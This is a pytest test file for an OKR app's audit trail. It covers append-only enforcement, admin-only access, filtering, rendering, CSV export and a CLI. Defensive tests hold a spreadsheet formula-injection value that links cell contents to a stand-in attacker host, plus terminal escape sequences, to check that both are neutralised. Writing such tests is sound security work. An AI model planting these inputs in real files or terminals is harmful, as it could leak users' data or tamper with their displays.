"""The audit trail: append-only, readable by admins only, printable and exportable safely."""
from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from cli import cli
from okr_app.audit.append_only import AuditTrailIsAppendOnly
from okr_app.audit.services import record
from okr_app.extensions import db
from okr_app.models import AuditEvent
from tests.builders.queries import counting_queries


def add_event(actor, action, at, object_id="1", before=None, after=None, object_type="person"):
    event = record(actor, action, object_type, object_id, before=before, after=after)
    event.at = at
    db.session.commit()
    return event


@pytest.fixture
def admin(build, auth, clock):
    # Signing in is audited (auth.sign_in); the tests place their own events from 2026-01-01 on, so the
    # admin signs in (and browses) on 2025-12-31: the sign-in is older than every event a test reads first.
    clock.pin(datetime(2025, 12, 31, 12, 0))
    person = build.person(role="admin", email="admin@example.com")
    auth.login("admin@example.com")
    with db.engine.begin() as connection:  # the sign-in is audited; these tests read exact pages of their own events
        connection.exec_driver_sql("DELETE FROM audit_event")
    return person


# --- append-only ------------------------------------------------------------------------------------

def test_an_audit_event_cannot_be_edited_through_the_orm(build):
    event = add_event(None, "person.role", datetime(2026, 1, 5), before="employee", after="admin")
    event.after = "employee"
    with pytest.raises(AuditTrailIsAppendOnly):
        db.session.flush()
    db.session.rollback()
    assert db.session.get(AuditEvent, event.id).after == "admin"


def test_an_audit_event_cannot_be_deleted_through_the_orm(build):
    event = add_event(None, "person.role", datetime(2026, 1, 5))
    db.session.delete(event)
    with pytest.raises(AuditTrailIsAppendOnly):
        db.session.flush()
    db.session.rollback()
    assert db.session.get(AuditEvent, event.id) is not None


@pytest.mark.parametrize("statement", [
    sa.update(AuditEvent).values(after="rewritten"),
    sa.delete(AuditEvent),
    sa.delete(AuditEvent.__table__),
    sa.update(AuditEvent.__table__).values(before="rewritten"),
])
def test_bulk_updates_and_deletes_of_the_trail_are_refused(build, statement):
    add_event(None, "person.role", datetime(2026, 1, 5), before="employee", after="admin")
    with pytest.raises(AuditTrailIsAppendOnly):
        db.session.execute(statement)
    db.session.rollback()
    assert db.session.scalar(sa.select(AuditEvent.after)) == "admin"


def test_new_events_are_still_appended_freely(build):
    add_event(None, "a.one", datetime(2026, 1, 5))
    add_event(None, "a.two", datetime(2026, 1, 6))
    assert db.session.scalar(sa.select(sa.func.count(AuditEvent.id))) == 2


# --- the admin page -----------------------------------------------------------------------------------

@pytest.mark.parametrize("role", ["employee", "manager", "leader", "finance"])
def test_only_admins_may_read_the_audit_trail(client, build, auth, role):
    build.person(role=role, email="nosy@example.com")
    auth.login("nosy@example.com")
    assert client.get("/admin/audit/").status_code == 403
    assert client.get("/admin/audit/export.csv").status_code == 403


def test_the_audit_page_filters_by_action_actor_and_date(client, build, admin):
    ana = build.person(email="ana@example.com")
    add_event(admin, "person.role", datetime(2026, 1, 5, 9), object_id="11", before="employee", after="manager")
    add_event(ana, "kr.check_in", datetime(2026, 1, 6, 9), object_id="22", after="40")
    add_event(admin, "person.deactivate", datetime(2026, 2, 1, 9), object_id="33")
    everything = client.get("/admin/audit/").get_data(as_text=True)
    assert all(f"person:{n}" in everything or f"key_result:{n}" in everything for n in (11, 33))
    by_action = client.get("/admin/audit/?action=person.role").get_data(as_text=True)
    assert "person:11" in by_action and "person:33" not in by_action
    by_actor = client.get("/admin/audit/?actor=ANA@example.com").get_data(as_text=True)
    assert "person:22" in by_actor and "person:11" not in by_actor
    by_date = client.get("/admin/audit/?since=2026-01-06&until=2026-01-31").get_data(as_text=True)
    assert "person:22" in by_date and "person:11" not in by_date and "person:33" not in by_date


def test_a_malformed_date_filter_is_a_clear_422_not_a_crash(client, admin):
    response = client.get("/admin/audit/?since=yesterday")
    assert response.status_code == 422
    assert "Not a valid date" in response.get_data(as_text=True)


def test_the_csv_export_escapes_formula_looking_values(client, build, admin):
    add_event(admin, "objective.update", datetime(2026, 1, 5), object_type="objective",
              before="Grow revenue", after='=HYPERLINK("http://evil.example/?"&A1,"click")')
    response = client.get("/admin/audit/export.csv")
    assert response.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0] == ["time_utc", "actor", "action", "object", "before", "after"]
    assert rows[-1][4:] == ["Grow revenue", '\'=HYPERLINK("http://evil.example/?"&A1,"click")']


def cell(page: str, column: int, row: int = 0) -> str:
    """The text of a body cell (0-based column: time, actor, action, object, before, after)."""
    body = page.split("<tbody>")[1].split("</tbody>")[0]
    return body.split("<tr>")[row + 1].split("<td>")[column + 1].split("</td>")[0]


def test_a_bare_number_reads_with_what_the_action_counts(client, build, admin):
    add_event(None, "cycle.snapshot", datetime(2026, 1, 5), object_type="cycle", after=173)
    add_event(admin, "kr.grade", datetime(2026, 1, 4), object_type="key_result", before=0.7, after=0.9)
    page = client.get("/admin/audit/").get_data(as_text=True)
    assert "173 key results frozen" in cell(page, 5, row=0)
    assert "grade 0.7" in cell(page, 4, row=1) and "grade 0.9" in cell(page, 5, row=1)


def test_a_stored_object_reads_as_key_value_lines(client, admin):
    add_event(None, "demo.load", datetime(2026, 1, 5), object_type="cycle",
              after={"people": 60, "check_ins": 1219, "private": False, "team": None,
                     "periods": ["2025-Q1", "2025-Q2"], "totals": {"USD": "160771.35"}})
    after = cell(client.get("/admin/audit/").get_data(as_text=True), 5)
    for line in ("<dt>people</dt><dd>60</dd>", "<dt>check ins</dt><dd>1219</dd>", "<dt>private</dt><dd>no</dd>",
                 "<dt>team</dt><dd>—</dd>", "<dt>periods</dt><dd>2025-Q1, 2025-Q2</dd>",
                 "<dt>totals</dt><dd>USD: 160771.35</dd>"):
        assert line in after, line
    assert "{" not in after


def test_an_update_shows_what_changed_and_names_what_did_not(client, admin):
    add_event(admin, "kr.update", datetime(2026, 1, 5), object_type="key_result",
              before={"title": "Close deals", "start": 0, "target": 10}, after={"title": "Close deals", "start": 0,
                                                                                 "target": 12})
    page = client.get("/admin/audit/").get_data(as_text=True)
    before, after = cell(page, 4), cell(page, 5)
    assert "<dt>target</dt><dd>10</dd>" in before and "<dt>target</dt><dd>12</dd>" in after
    assert "Close deals" not in before + after and "Unchanged: start, title" in after  # stored keys sort


def test_objects_and_actors_read_as_names_linked_to_their_pages_with_the_stored_key_beside(client, build, admin):
    ana = build.person(name="Ana Alvarez", email="ana@example.com")
    sales = build.team("Sales")
    cycle = build.cycle(name="FY Q3")
    objective = build.objective(cycle, owner=ana, title="Open the Nordics")
    kr = build.key_result(objective, title="Close ten deals")
    at = datetime(2026, 1, 5)
    for n, (object_type, object_id) in enumerate([("person", ana.id), ("team", sales.id), ("cycle", cycle.id),
                                                  ("objective", objective.id), ("key_result", kr.id),
                                                  ("objective", 999_999), ("file", "people.csv")]):
        add_event(ana, "a.event", at.replace(minute=n), object_type=object_type, object_id=str(object_id))
    page = client.get("/admin/audit/").get_data(as_text=True)
    # newest first: row 0 is the file, row 6 the person
    assert cell(page, 3, row=6) == (f'<a href="/people/{ana.id}">Ana Alvarez</a> '
                                    f'<small class="muted line-key">person:{ana.id}</small>')
    assert f'<a href="/team?team={sales.id}">Sales</a>' in cell(page, 3, row=5)
    assert f'<a href="/cycles/{cycle.id}">FY Q3</a>' in cell(page, 3, row=4)
    assert f'<a href="/okrs/objectives/{objective.id}">Open the Nordics</a>' in cell(page, 3, row=3)
    assert f'<a href="/okrs/key-results/{kr.id}">Close ten deals</a>' in cell(page, 3, row=2)
    assert "Objective #999999 (no longer exists)" in cell(page, 3, row=1)  # deleted since: said, not a 500
    assert cell(page, 3, row=0).startswith("File people.csv")
    assert cell(page, 1, row=0) == (f'<a href="/people/{ana.id}">Ana Alvarez</a> '
                                    '<small class="muted line-key">ana@example.com</small>')
    assert cell(page, 2, row=0) == 'A event <small class="muted line-key">a.event</small>'  # no name: its key in words
    csv_rows = list(csv.reader(io.StringIO(client.get("/admin/audit/export.csv").get_data(as_text=True))))
    assert [row[3] for row in csv_rows[1:]] == [f"person:{ana.id}", f"team:{sales.id}", f"cycle:{cycle.id}",
                                                f"objective:{objective.id}", f"key_result:{kr.id}",
                                                "objective:999999", "file:people.csv"]  # the export keeps keys


def test_an_action_reads_as_what_happened_with_its_key_beside_it(client, build, admin):
    add_event(admin, "person.role", datetime(2026, 1, 5), before="employee", after="manager")
    page = client.get("/admin/audit/").get_data(as_text=True)
    assert cell(page, 2) == 'Role changed <small class="muted line-key">person.role</small>'
    assert '<option value="person.role">Role changed (person.role)</option>' in page  # the filter says both


def test_naming_a_page_of_objects_costs_the_same_queries_for_3_events_as_for_30(client, build, admin):
    counts = []
    for many in (3, 30):
        for n in range(many):
            person = build.person()
            add_event(person, "a.event", datetime(2026, 1, 5, 0, n), object_type="person", object_id=str(person.id))
        db.session.expire_all()
        with counting_queries(db.engine) as statements:
            assert client.get("/admin/audit/").status_code == 200
        counts.append(len(statements))
    assert counts[0] == counts[1], counts  # one lookup per kind of object, whatever the number of rows


def test_a_long_list_inside_a_value_is_cut_with_a_count_of_the_rest(client, admin):
    add_event(None, "cycle.close", datetime(2026, 1, 5), object_type="cycle",
              after={"state": "closed", "grades": {str(kr): 0.5 for kr in range(11, 21)}})
    after = cell(client.get("/admin/audit/").get_data(as_text=True), 5)
    # 10 grades, 6 shown: 4 more
    assert "<dt>grades</dt><dd>11: 0.5, 12: 0.5, 13: 0.5, 14: 0.5, 15: 0.5, 16: 0.5 … and 4 more</dd>" in after


def test_the_pager_says_which_page_of_how_many_and_stops_at_the_last(client, admin):
    for n in range(101):  # one more than a page of 100
        add_event(None, "a.event", datetime(2026, 1, 1, 0, n // 60, n % 60), object_id=str(n))
    first = client.get("/admin/audit/").get_data(as_text=True)
    # 101 events (the fixture cleared the admin's own sign-in): 100 on page 1, 1 on page 2
    assert "Page 1 of 2 · 101 events" in first and "Older →" in first and "← Newer" not in first
    beyond = client.get("/admin/audit/?page=9").get_data(as_text=True)
    assert "Page 2 of 2 · 101 events" in beyond and "Older →" not in beyond and "person:0<" in beyond
    empty = client.get("/admin/audit/?action=nothing.matches").get_data(as_text=True)
    assert "Page 1 of 1 · 0 events" in empty and "No events match." in empty


# --- the trail records what matters -------------------------------------------------------------

def test_role_changes_imports_and_deactivations_all_land_in_the_trail(client, build, admin):
    ana = build.person(email="ana@example.com")
    form = {"name": ana.name, "email": ana.email, "manager_id": 0, "team_id": 0}
    client.post(f"/people/{ana.id}/edit", data={**form, "role": "manager", "active": "y"})
    client.post(f"/people/{ana.id}/edit", data={**form, "role": "manager"})
    client.post("/people/import", content_type="multipart/form-data", data={
        "file": (io.BytesIO(b"email,name,role,manager_email,team\nnew@example.com,New,,,\n"), "people.csv")})
    actions = set(db.session.scalars(sa.select(AuditEvent.action)))
    assert {"person.role", "person.deactivate", "people.import", "person.create"} <= actions


# --- the CLI --------------------------------------------------------------------------------------

@pytest.fixture
def cadence(app, tmp_path):
    env = {"CADENCE_DATABASE_URL": app.config["SQLALCHEMY_DATABASE_URI"], "CADENCE_SECRET_KEY": "cli-test-key",
           "CADENCE_INSTANCE_PATH": str(tmp_path / "instance")}
    return lambda *args: CliRunner().invoke(cli, list(args), env=env)


def test_cadence_audit_prints_one_line_per_event_since_a_date(cadence, build):
    admin = build.person(role="admin", email="admin@example.com")
    add_event(admin, "person.role", datetime(2025, 12, 31, 23, 59), object_id="7", before="employee", after="leader")
    add_event(admin, "person.role", datetime(2026, 1, 2, 8, 30), object_id="8", before="employee", after="manager")
    add_event(None, "people.import", datetime(2026, 1, 3, 9, 0), object_type="file", object_id="people.csv",
              after={"people": 3})
    result = cadence("audit", "--since", "2026-01-01")
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [
        "2026-01-02 08:30:00  admin@example.com  person.role  person:8  employee → manager",
        '2026-01-03 09:00:00  system  people.import  file:people.csv  → {"people": 3}',
    ]


def test_cadence_audit_filters_by_action_family(cadence, build):
    add_event(None, "person.role", datetime(2026, 1, 2), object_id="1", before="employee", after="manager")
    add_event(None, "person.deactivate", datetime(2026, 1, 3), object_id="2", before="active")
    add_event(None, "kr.check_in", datetime(2026, 1, 4), object_type="key_result", object_id="3", after="40")
    assert len(cadence("audit", "--action", "person").output.splitlines()) == 2
    assert cadence("audit", "--action", "person.deactivate").output.splitlines() == [
        "2026-01-03 00:00:00  system  person.deactivate  person:2  active →"]
    assert cadence("audit", "--action", "pers").output == ""  # a family is a whole word, not a prefix


def test_cadence_audit_neutralises_terminal_escapes_and_newlines_in_stored_values(cadence, build):
    add_event(None, "weekly.reply", datetime(2026, 1, 2), object_type="weekly_report",
              after="line one\nline two \x1b[2J\x1b]0;pwned\x07")
    [line] = cadence("audit").output.splitlines()
    assert "\x1b" not in line and "\x07" not in line
    assert line.endswith("→ line one\\nline two \\x1b[2J\\x1b]0;pwned\\x07")


def test_cadence_audit_rejects_a_date_it_cannot_read(cadence, build):
    result = cadence("audit", "--since", "01/02/2026")
    assert result.exit_code == 2
    assert "--since" in result.output
